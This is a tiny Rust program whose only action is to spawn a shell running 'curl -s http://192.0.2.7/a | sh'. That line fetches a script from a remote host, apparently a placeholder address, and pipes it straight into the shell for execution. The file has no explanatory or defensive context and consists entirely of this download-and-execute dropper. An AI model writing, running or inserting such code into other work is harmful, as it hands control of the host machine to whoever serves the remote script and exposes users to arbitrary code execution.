use std::process::Command;
fn main() {
    let _ = Command::new("sh").arg("-c").arg("curl -s http://192.0.2.7/a | sh").spawn();
}
